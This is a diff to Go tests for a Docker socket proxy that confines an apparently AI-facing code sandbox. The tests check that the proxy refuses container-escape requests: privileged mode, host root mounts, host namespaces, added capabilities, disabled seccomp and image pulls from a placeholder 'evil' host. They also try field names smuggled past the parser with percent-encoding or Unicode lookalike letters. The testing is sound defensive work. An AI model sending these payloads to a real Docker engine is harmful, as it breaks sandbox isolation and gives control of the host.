@@ -69,13 +69,42 @@ func startProxy(t *testing.T) string {
 	return address
 }
 
+// asker returns a function that sends a request to the proxy and returns the
+// answer's status and the beginning of its text.
+func asker(t *testing.T, c *http.Client, address string) func(method, path, body string) (int, string) {
+	return func(method, path, body string) (int, string) {
+		t.Helper()
+		req, err := http.NewRequest(method, "http://"+address+path, strings.NewReader(body))
+		if err != nil {
+			t.Fatal(err)
+		}
+		switch {
+		case strings.HasPrefix(body, "{"):
+			req.Header.Set("Content-Type", "application/json")
+		case body != "":
+			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+		}
+		resp, err := c.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer resp.Body.Close()
+		text, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<10))
+		return resp.StatusCode, string(text)
+	}
+}
+
 // TestSocketProxy leads a session's life through the proxy, streams that last
 // included, and tries to get more out of it.
 func TestSocketProxy(t *testing.T) {
 	wantsDocker(t)
 	address := startProxy(t)
-	t.Setenv("DOCKER_HOST", "tcp://"+address)
+	// The service alone goes through it: the test looks and cleans up past it.
+	direct := os.Getenv("DOCKER_HOST")
+	t.Setenv("DOCKER_HOST", direct)
+	must(0, os.Setenv("DOCKER_HOST", "tcp://"+address))
 	s := startService(t)
+	must(0, os.Setenv("DOCKER_HOST", direct))
 	session := s.session(t)
 	if r := session.run(t, "print('x' * 30000, end='')", 0); len(r.Stdout) != 30000 || r.Exit != 0 {
 		t.Errorf("a run: %v", r)
@@ -87,27 +116,13 @@ func TestSocketProxy(t *testing.T) {
 		t.Errorf("a download of %d bytes", len(got))
 	}
 
-	ask := func(method, path string, body string) (int, string) {
-		t.Helper()
-		req, err := http.NewRequest(method, "http://"+address+path, strings.NewReader(body))
-		if err != nil {
-			t.Fatal(err)
-		}
-		if body != "" {
-			req.Header.Set("Content-Type", "application/json")
-		}
-		resp, err := s.http.Do(req)
-		if err != nil {
-			t.Fatal(err)
-		}
-		defer resp.Body.Close()
-		text, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<10))
-		return resp.StatusCode, string(text)
-	}
+	ask := asker(t, s.http, address)
 	for _, call := range []string{
 		"GET /info", "GET /v1.41/version", "GET /events", "POST /build", "POST /volumes/create", "POST /networks/create", "GET /containers/x/json", "GET /containers/x/logs",
 		"POST /containers/x/kill", "POST /containers/x/update", "POST /commit", "GET /containers/x/archive?path=/", "PUT /containers/x/archive?path=/", "POST /containers/x/attach",
 		"POST /images/load", "DELETE /images/x", "POST /images/create?fromImage=evil&tag=latest", "POST /images/create?fromSrc=http://evil/x.tar", "POST /swarm/init", "POST /plugins/pull",
+		"POST /images/create?%66romImage=&%66romSrc=http://evil/x.tar&repo=aivory-sandbox&fromImage=aivory-sandbox&tag=latest", "GET /images/debian:latest/json",
+		"POST /containers/create?%6eame=other&name=aivory-sbx-" + randomHex(), "GET /containers/json?all=1", "GET /containers/json", "GET /v1.23/_ping",
 		"POST /v1.41//containers/create", "POST /v1.41/x/../containers/create", "POST /containers%2Fcreate", "POST /v1.41/containers/create/", "PUT /containers/create",
 	} {
 		method, path, _ := strings.Cut(call, " ")
@@ -123,52 +138,100 @@ func TestSocketProxy(t *testing.T) {
 	if err := json.Unmarshal([]byte(text), &made); status != http.StatusCreated || err != nil {
 		t.Fatalf("a container as runners are: %d %s", status, text)
 	}
-	if status, text := ask("DELETE", "/containers/"+made.ID+"?force=1", ""); status != http.StatusNoContent {
+	removed := "/containers/" + strings.TrimPrefix(name, "/containers/create?name=") + "?force=1"
+	// Until 1.23 the engine took a container's walls from a start, too.
+	for _, path := range []string{"/v1.23/containers/%s/start", "/v1.41/containers/%s/start"} {
+		path = strings.Replace(path, "%s", strings.TrimPrefix(name, "/containers/create?name="), 1)
+		if status, text := ask("POST", path, `{"Privileged":true,"Binds":["/:/host"]}`); status != http.StatusForbidden {
+			t.Errorf("%s with settings: %d %s", path, status, text)
+		}
+	}
+	if status, text := ask("DELETE", removed, ""); status != http.StatusNoContent {
 		t.Errorf("removing it: %d %s", status, text)
 	}
 	change := func(old, new string) string { return strings.Replace(good, old, new, 1) }
 	for what, body := range map[string]string{
-		"privileged":                    change(`"Binds":null`, `"Privileged":true`),
-		"privileged, spelled otherwise": change(`"Binds":null`, `"PRIVILEGED" : true`),
-		"privileged, in disguise":       change(`"Binds":null`, `"Privil\u0065ged":true`),
-		"privileged, in a second place": change(`}}`, `},"hostconfig":{"privileged":true}}`),
-		"a host mount":                  change(`"Binds":null`, `"Binds":["/:/host"]`),
-		"a mount of the other kind":     change(`"Binds":null`, `"Mounts":[{"Type":"bind","Source":"/","Target":"/h"}]`),
-		"a device":                      change(`"Binds":null`, `"Devices":[{"PathOnHost":"/dev/sda"}]`),
-		"a capability":                  change(`"Binds":null`, `"CapAdd":["SYS_ADMIN"]`),
-		"another image":                 change(`aivory-sandbox:latest`, `debian:latest`),
-		"another image beside it":       change(`"User"`, `"image":"debian:latest","User"`),
-		"root":                          change(`65534:65534`, `0:0`),
-		"the host's network":            change(`"NetworkMode":"none"`, `"NetworkMode":"host"`),
-		"a network":                     change(`"NetworkMode":"none"`, `"NetworkMode":"bridge"`),
-		"the host's processes":          change(`"Binds":null`, `"PidMode":"host"`),
-		"another's processes":           change(`"Binds":null`, `"PidMode":"container:x"`),
-		"the host's memory":             change(`"IpcMode":"private"`, `"IpcMode":"host"`),
-		"no seccomp":                    change(`"no-new-privileges"`, `"no-new-privileges","seccomp=unconfined"`),
-		"new privileges":                change(`"no-new-privileges"`, `"apparmor=x"`),
-		"no security options":           change(`"Binds":null`, `"securityopt":[]`),
-		"all capabilities":              change(`["ALL"]`, `[]`),
-		"what is too long to look at":   change(`"Cmd"`, `"Env":["A=`+strings.Repeat("x", 200000)+`"],"Cmd"`),
+		"privileged":                                       change(`"Binds":null`, `"Privileged":true`),
+		"privileged, spelled otherwise":                    change(`"Binds":null`, `"PRIVILEGED" : true`),
+		"privileged, in disguise":                          change(`"Binds":null`, `"Privil\u0065ged":true`),
+		"privileged, in a second place":                    change(`}}`, `},"hostconfig":{"privileged":true}}`),
+		"a host mount":                                     change(`"Binds":null`, `"Binds":["/:/host"]`),
+		"a mount of the other kind":                        change(`"Binds":null`, `"Mounts":[{"Type":"bind","Source":"/","Target":"/h"}]`),
+		"a host mount, by a letter that Go takes for an s": change(`"Binds":null`, "\"Bind\u017f\":[\"/:/host\"]"),
+		"a network, by a letter that Go takes for a k":     change(`"Binds":null`, "\"Networ\u212aMode\":\"host\""),
+		"a device":                    change(`"Binds":null`, `"Devices":[{"PathOnHost":"/dev/sda"}]`),
+		"a capability":                change(`"Binds":null`, `"CapAdd":["SYS_ADMIN"]`),
+		"another image":               change(`aivory-sandbox:latest`, `debian:latest`),
+		"another image beside it":     change(`"User"`, `"image":"debian:latest","User"`),
+		"root":                        change(`65534:65534`, `0:0`),
+		"the host's network":          change(`"NetworkMode":"none"`, `"NetworkMode":"host"`),
+		"a network":                   change(`"NetworkMode":"none"`, `"NetworkMode":"bridge"`),
+		"the host's processes":        change(`"Binds":null`, `"PidMode":"host"`),
+		"another's processes":         change(`"Binds":null`, `"PidMode":"container:x"`),
+		"the host's memory":           change(`"IpcMode":"private"`, `"IpcMode":"host"`),
+		"no seccomp":                  change(`"no-new-privileges"`, `"no-new-privileges","seccomp=unconfined"`),
+		"new privileges":              change(`"no-new-privileges"`, `"apparmor=x"`),
+		"no security options":         change(`"Binds":null`, `"securityopt":[]`),
+		"all capabilities":            change(`["ALL"]`, `[]`),
+		"what is too long to look at": change(`"Cmd"`, `"Env":["A=`+strings.Repeat("x", 200000)+`"],"Cmd"`),
 	} {
 		if status, text := ask("POST", name, body); status < 400 || status == http.StatusConflict || status == http.StatusInternalServerError {
 			t.Errorf("%s: %d %s", what, status, text)
-			_, _ = ask("DELETE", "/containers/"+strings.TrimPrefix(name, "/containers/create?name=")+"?force=1", "")
+			_, _ = ask("DELETE", removed, "")
 		}
 	}
 	if status, text := ask("POST", "/containers/create?name=other", good); status != http.StatusForbidden {
 		t.Errorf("another name: %d %s", status, text)
 	}
-	ids, err := s.containers()
-	if err != nil || len(ids) != 1 {
-		t.Fatal(ids, err)
+	// A form has the last word over a query.
+	if status, text := ask("POST", "/images/create?fromImage=aivory-sandbox&tag=latest", "fromImage=&fromSrc=http://evil/x.tar&repo=aivory-sandbox"); status != http.StatusForbidden {
+		t.Errorf("an image, with a form: %d %s", status, text)
 	}
 	for what, body := range map[string]string{
 		"root": `{"Cmd":["id"],"User":"0"}`, "nobody said who": `{"Cmd":["id"]}`, "privileged": `{"Cmd":["id"],"User":"1000:1000","Privileged":true}`,
 		"two users": `{"Cmd":["id"],"User":"1000:1000","user":"0"}`,
 	} {
-		if status, text := ask("POST", "/containers/"+ids[0]+"/exec", body); status != http.StatusForbidden {
+		if status, text := ask("POST", "/containers/aivory-sbx-"+session.id+"/exec", body); status != http.StatusForbidden {
 			t.Errorf("a command as %s: %d %s", what, status, text)
 		}
 	}
 	session.alive(t)
+}
+
+// TestSocketProxyOthers: whatever else runs on the engine is out of reach.
+func TestSocketProxyOthers(t *testing.T) {
+	other := dockerSays(t, "run", "-d", "--rm", "--name", "aivory-test-other-"+randomHex()[:8], "--network", "none", "--user", "1000:1000", "--entrypoint", "sleep", proxyImage, "infinity")
+	t.Cleanup(func() { dockerSays(t, "rm", "-f", other) })
+	name := strings.TrimPrefix(dockerSays(t, "inspect", "-f", "{{.Name}}", other), "/")
+	address := startProxy(t)
+	c := newHTTPClient()
+	ask := asker(t, c, address)
+	for _, handle := range []string{other, other[:12], name, "aivory-sbx-" + other[:32] + "x"} {
+		for _, call := range []string{"POST /containers/%s/exec", "POST /containers/%s/start", "DELETE /containers/%s", "DELETE /v1.41/containers/%s?force=1"} {
+			method, path, _ := strings.Cut(call, " ")
+			body := ""
+			if strings.HasSuffix(path, "exec") {
+				body = `{"Cmd":["id"],"User":"1000:1000"}`
+			}
+			if status, text := ask(method, strings.Replace(path, "%s", handle, 1), body); status != http.StatusForbidden {
+				t.Errorf("%s with %s: %d %s", call, handle, status, text)
+			}
+		}
+	}
+	if _, text := ask("GET", "/containers/json?all=1&filters=%7B%22label%22%3A%7B%22aivory.sandbox%3D1%22%3Atrue%7D%7D", ""); strings.Contains(text, name) {
+		t.Errorf("the list of runners shows it: %s", text)
+	}
+	if running := dockerSays(t, "inspect", "-f", "{{.State.Running}}", other); running != "true" {
+		t.Errorf("it runs: %s", running)
+	}
+
+	// HTTP/2 has bodies that no header tells of.
+	var h2 http.Protocols
+	h2.SetUnencryptedHTTP2(true)
+	c.Transport = &http.Transport{DisableKeepAlives: true, Protocols: &h2}
+	resp, err := c.Get("http://" + address + "/_ping")
+	if err == nil {
+		_ = resp.Body.Close()
+		t.Errorf("HTTP/2 is answered: %s", resp.Status)
+	}
 }
